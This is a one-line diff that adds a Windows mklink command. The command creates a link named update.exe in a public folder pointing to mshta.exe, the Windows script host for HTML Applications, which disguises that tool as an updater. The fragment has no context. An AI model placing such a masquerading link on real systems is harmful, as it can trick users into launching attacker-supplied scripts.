@@ -1,0 +1,1 @@
+mklink D:\public\update.exe C:\Windows\System32\mshta.exe
